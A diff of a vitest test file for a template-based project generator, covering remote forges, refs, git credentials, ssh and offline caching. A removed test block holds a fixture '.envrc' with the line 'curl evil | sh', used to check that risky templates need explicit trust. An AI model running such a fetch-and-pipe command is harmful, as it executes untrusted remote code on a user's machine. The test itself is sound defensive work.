@@ -1,11 +1,10 @@
 import { execFileSync } from 'node:child_process'
-import { mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
+import { mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
 import path from 'node:path'
 import { describe, expect, it } from 'vitest'
 import { contents, entries, run } from './support/program.js'
 import { git, makeScene } from './support/scene.js'
 import { FILES, make, makeForgeScene } from './support/templates.js'
-import { open } from './support/terminal.js'
 
 const record = (folder: string) => JSON.parse(readFileSync(path.join(folder, 'lab/.nix-jupyter.json'), 'utf8'))
 
@@ -27,37 +26,76 @@ describe('a template from elsewhere', () => {
   })
 
   it.each([
-    ['gitlab:ada/wine', 'gitlab.com/ada/wine/-/archive/'],
-    ['bitbucket:ada/wine', 'bitbucket.org/ada/wine/get/'],
-    ['git.sr.ht/~ada/wine', 'git.sr.ht/~ada/wine/archive/'],
-    ['https://github.com/ada/wine', 'github.com/ada/wine/archive/'],
-  ])('comes from %s', async (address, asked) => {
+    ['gitlab:ada/wine', 'gitlab.com/ada/wine/'],
+    ['bitbucket:ada/wine', 'bitbucket.org/ada/wine/'],
+    ['git.sr.ht/~ada/wine', 'git.sr.ht/~ada/wine/'],
+    ['https://github.com/ada/wine', 'github.com/ada/wine/'],
+    ['https://github.com/ada/wine/tree/main/inner', 'github.com/ada/wine/'],
+  ])(
+    'I6: comes from %s, through the proxy and with the certificate that the user has set for git',
+    async (address, asked) => {
+      const { folder, env, forge } = await makeForgeScene()
+      forge.repository(address.includes('~') ? '~ada/wine' : 'ada/wine', FILES)
+      expect(await make(folder, env, '-t', address)).toMatchObject({ code: 0, stderr: '' })
+      expect(forge.requests[0]).toContain(asked)
+    },
+  )
+
+  it('comes from a group in a group on GitLab, where a path does not say where the group ends', async () => {
     const { folder, env, forge } = await makeForgeScene()
-    forge.repository(address.includes('~') ? '~ada/wine' : 'ada/wine', FILES)
-    expect(await make(folder, env, '-t', address)).toMatchObject({ code: 0 })
-    expect(forge.requests[0]).toContain(asked)
+    const commit = forge.repository('ada/cellar/wine', FILES)
+    expect(await make(folder, env, '-t', 'gitlab:ada/cellar/wine/inner')).toMatchObject({ code: 0 })
+    expect(record(folder).template).toBe(`gitlab:ada/cellar/wine/inner#${commit}`)
   })
 
-  it('comes from a folder and a branch, a tag or a commit of a repository', async () => {
+  it('comes from a folder and a branch, a tag, a commit or its beginning', async () => {
     const { folder, env, forge } = await makeForgeScene()
     const commit = forge.repository('ada/wine', FILES)
-    const repository = path.join(path.dirname(folder), 'forge/ada/wine')
+    const repository = path.join(forge.root, 'ada/wine')
     git(repository, '-c', 'user.name=A', '-c', 'user.email=a@b', 'tag', '-a', 'v1', '-m', 'one')
-    for (const [index, ref] of ['main', 'v1', commit].entries()) {
-      const ran = await run([`lab${index}`, '-y', '-t', `ada/wine/inner#${ref}`], folder, env)
+    for (const [index, ref] of ['main', 'v1', commit, commit.slice(0, 9)].entries()) {
+      const ran = await run([`lab${index}`, '-y', '--trust', '-t', `ada/wine/inner#${ref}`], folder, env)
       expect(ran).toMatchObject({ code: 0 })
       expect(readFileSync(path.join(folder, `lab${index}/flake.nix`), 'utf8')).toBe('{ inner = true; }\n')
       expect(ran.stdout).toContain(commit)
     }
   })
 
-  it('comes, when it is private, through git and its credentials', async () => {
+  it('I7: a branch named like a commit is not taken for it', async () => {
+    const { folder, env, forge } = await makeForgeScene()
+    const commit = forge.repository('ada/wine', FILES)
+    const repository = path.join(forge.root, 'ada/wine')
+    writeFileSync(path.join(repository, 'README.md'), 'another\n')
+    git(repository, '-c', 'user.name=A', '-c', 'user.email=a@b', 'commit', '-qam', 'another')
+    git(repository, 'update-ref', `refs/heads/${commit}`, 'HEAD')
+    expect(await make(folder, env, '-t', `ada/wine#${commit}`)).toMatchObject({ code: 0 })
+    expect(contents(path.join(folder, 'lab'))['README.md']).toContain('# lab with')
+    expect(record(folder).template).toBe(`ada/wine#${commit}`)
+  })
+
+  it('I6: comes, when it is private, with the credentials that the user has set for git', async () => {
     const { folder, env, forge } = await makeForgeScene()
     const commit = forge.repository('ada/secret', FILES)
-    forge.answer((_, response) => response.writeHead(404).end())
+    forge.guard(`Basic ${Buffer.from('ada:s3cret').toString('base64')}`)
+    const asked = await make(folder, env, '-t', 'ada/secret/inner')
+    expect(asked).toMatchObject({ code: 4, stdout: '', stderr: expect.stringContaining('git ls-remote must work') })
+    const helper = '!f() { echo username=ada; echo password=s3cret; }; f'
+    writeFileSync(path.join(env.HOME ?? '', '.gitconfig'), `[credential]\n\thelper = "${helper}"\n`)
     expect(await make(folder, env, '-t', 'ada/secret/inner')).toMatchObject({ code: 0 })
     expect(record(folder).template).toBe(`ada/secret/inner#${commit}`)
     expect(entries(path.join(folder, 'lab'))).toEqual(['.git', '.nix-jupyter.json', 'flake.nix'])
+  })
+
+  it('I6: comes over ssh, with the command that the user has set for it', async () => {
+    const { folder, env, forge } = await makeForgeScene()
+    forge.repository('ada/wine', FILES)
+    const ssh = path.join(forge.root, 'ssh')
+    writeFileSync(ssh, `#!/bin/sh\necho "$@" >> ${ssh}.log\ncd ${forge.root} && exec git upload-pack ada/wine\n`, {
+      mode: 0o755,
+    })
+    const ran = await make(folder, { ...env, GIT_SSH_COMMAND: ssh }, '-t', 'git@github.com:ada/wine')
+    expect(ran).toMatchObject({ code: 0, stderr: '' })
+    expect(readFileSync(`${ssh}.log`, 'utf8')).toContain("git-upload-pack '/ada/wine'")
   })
 
   it('comes from a folder on this machine', async () => {
@@ -68,17 +106,45 @@ describe('a template from elsewhere', () => {
     expect(readFileSync(path.join(folder, 'lab/flake.nix'), 'utf8')).toBe('{ description = "lab"; }\n')
   })
 
-  it('--offline takes it from the cache; what is not there is exit 4', async () => {
+  it('C4: comes from a git checkout on this machine, as it lies there: what git ignores is not part of it', async () => {
+    const { folder, env } = makeScene()
+    const mine = path.join(folder, 'mine')
+    mkdirSync(path.join(mine, '.venv/bin'), { recursive: true })
+    writeFileSync(path.join(mine, 'flake.nix'), '{ }\n')
+    writeFileSync(path.join(mine, '.gitignore'), '.venv\n')
+    symlinkSync('/usr/bin/python3', path.join(mine, '.venv/bin/python'))
+    git(mine, 'init', '-q')
+    git(mine, 'add', '.')
+    writeFileSync(path.join(mine, 'flake.nix'), '{ changed = true; }\n')
+    writeFileSync(path.join(mine, 'new.txt'), 'new\n')
+    expect(await make(folder, env, '-t', './mine')).toMatchObject({ code: 0 })
+    expect(entries(path.join(folder, 'lab'))).toEqual([
+      '.git',
+      '.gitignore',
+      '.nix-jupyter.json',
+      'flake.nix',
+      'new.txt',
+    ])
+    expect(readFileSync(path.join(folder, 'lab/flake.nix'), 'utf8')).toBe('{ changed = true; }\n')
+  })
+
+  it('--offline takes it from the cache, by the ref or by the recorded commit; what is not there is exit 4', async () => {
     const { folder, env, forge } = await makeForgeScene()
-    forge.repository('ada/wine', FILES)
-    expect(await make(folder, env, '-t', 'ada/wine', '--offline')).toMatchObject({
+    const commit = forge.repository('ada/wine', FILES)
+    const offline = ['-y', '--trust', '--offline', '-t']
+    expect(await run(['lab', ...offline, 'ada/wine'], folder, env)).toMatchObject({
       code: 4,
       stderr: expect.stringContaining('not in the cache'),
     })
-    expect(await run(['first', '-y', '-t', 'ada/wine'], folder, env)).toMatchObject({ code: 0 })
-    forge.close()
-    expect(await make(folder, env, '-t', 'ada/wine', '--offline')).toMatchObject({ code: 0 })
+    expect(await run(['first', '-y', '--trust', '-t', 'ada/wine'], folder, env)).toMatchObject({ code: 0 })
+    forge.requests.length = 0
+    expect(await run(['lab', ...offline, 'ada/wine'], folder, env)).toMatchObject({ code: 0, stderr: '' })
     expect(contents(path.join(folder, 'lab')).start).toBe('#!/bin/sh\necho lab\n')
+    expect(await run(['again', ...offline, `ada/wine/inner#${commit}`], folder, env)).toMatchObject({ code: 0 })
+    expect(await run(['never', ...offline, `ada/wine#${'0'.repeat(40)}`], folder, env)).toMatchObject({ code: 4 })
+    // A commit is the same for ever: nobody has to be asked for one that is there.
+    expect(await run(['pinned', '-y', '--trust', '-t', `ada/wine#${commit}`], folder, env)).toMatchObject({ code: 0 })
+    expect(forge.requests).toEqual([])
   })
 
   it('I12: without a ./start it is not told to start', async () => {
@@ -97,7 +163,7 @@ describe('a template from elsewhere', () => {
     mkdirSync(path.join(folder, 'mine'))
     writeFileSync(path.join(folder, 'mine/flake.nix'), '{ description = "{{name}}"; }\n')
     writeFileSync(path.join(folder, 'mine/README.md'), '{{name}}\n')
-    expect(await run(['.', '-y', '-t', '../mine'], here, env)).toMatchObject({ code: 0 })
+    expect(await run(['.', '-y', '--trust', '-t', '../mine'], here, env)).toMatchObject({ code: 0 })
     expect(readFileSync(path.join(here, 'README.md'), 'utf8')).toBe('it is \\<b\\>\n')
     execFileSync('nix-instantiate', ['--parse', path.join(here, 'flake.nix')])
   })
@@ -114,35 +180,8 @@ describe("I8: a name that could end a string of the template's", () => {
     mkdirSync(path.join(folder, 'mine'))
     writeFileSync(path.join(folder, 'mine/flake.nix'), '{ }\n')
     writeFileSync(path.join(folder, 'mine', file), content)
-    const ran = await run(['.', '-y', '-t', '../mine'], path.join(folder, name), env)
+    const ran = await run(['.', '-y', '--trust', '-t', '../mine'], path.join(folder, name), env)
     expect(ran).toMatchObject({ code: 2, stderr: expect.stringContaining(file) })
     expect(entries(path.join(folder, name))).toEqual([])
-  })
-})
-
-describe('a template that can run code by itself', () => {
-  const risky = { ...FILES, '.envrc': 'curl evil | sh\n', 'flake.nix': '{ nixConfig.substituters = [ "x" ]; }\n' }
-
-  it('needs --trust without a terminal', async () => {
-    const { folder, env, forge } = await makeForgeScene()
-    forge.repository('ada/wine', risky)
-    const ran = await make(folder, env, '-t', 'ada/wine')
-    expect(ran).toMatchObject({ code: 2, stderr: expect.stringContaining('.envrc, flake.nix') })
-    expect(entries(folder)).toEqual([])
-    expect(await make(folder, env, '-t', 'ada/wine', '--trust')).toMatchObject({ code: 0 })
-  })
-
-  it.each([
-    ['yes', 'y', 0],
-    ['no', 'n', 1], // F5: answered, not interrupted
-  ])('is shown and asked about in a terminal: %s', async (_, key, code) => {
-    const { folder, env, forge } = await makeForgeScene()
-    forge.repository('ada/wine', risky)
-    const session = open(['lab', '-t', 'ada/wine', '--python', '3.13', '--git'], folder, env)
-    await session.see('curl evil | sh')
-    await session.see('Use it?')
-    session.type(key)
-    expect(await session.exited).toBe(code)
-    expect(entries(folder)).toEqual(code === 0 ? ['lab'] : [])
   })
 })
